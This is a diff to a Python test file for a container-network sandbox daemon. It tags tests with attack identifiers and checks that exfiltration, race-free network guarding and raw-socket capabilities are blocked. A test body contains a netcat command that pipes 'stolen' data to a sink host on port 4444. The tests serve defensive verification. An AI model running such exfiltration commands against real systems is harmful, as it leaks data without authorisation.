@@ -44,6 +44,7 @@ def fetched(docker: Engine, container: str, name: str) -> bool:
     return f"served {name}" in docker.run(container, "/usr/bin/curl", "-sS", "-m", "5", f"http://{name}/").stdout
 
 
+@pytest.mark.attack("N1 T6", "sends from a container, and from one that joins its network", stopped_by="kernel")
 def test_container_is_guarded(internet: Internet, daemon: Daemon, docker: Engine) -> None:
     container = docker.start(*WITHOUT_RAW)
     send = ("/bin/sh", "-c", f"echo stolen | nc -w 2 {plan.SINK4} 4444")
@@ -63,6 +64,9 @@ def test_container_is_guarded(internet: Internet, daemon: Daemon, docker: Engine
     assert [record["event"] for record in daemon.records(sandbox=sandbox.id)][-1] == "sandbox.detached"
 
 
+@pytest.mark.attack(
+    "T4", "sends as its very first act in a container that joins a guarded network", stopped_by="kernel"
+)
 def test_network_is_guarded_before_the_workload_begins(internet: Internet, daemon: Daemon, docker: Engine) -> None:
     """The way without a race: a container that does nothing holds the network, and the workload joins it."""
     holder = docker.start(*WITHOUT_RAW, "--name", "holder")
@@ -73,6 +77,9 @@ def test_network_is_guarded_before_the_workload_begins(internet: Internet, daemo
     docker.docker("rm", "--force", holder)
 
 
+@pytest.mark.attack(
+    "T10 T10a", "is a container with Docker's default capabilities, CAP_NET_RAW among them", stopped_by="start"
+)
 def test_docker_default_capabilities_are_refused(internet: Internet, daemon: Daemon, docker: Engine) -> None:
     container = docker.start()
     body = {"attachment": {"container": container}, "networkPolicy": allowing(plan.ALLOWED)}
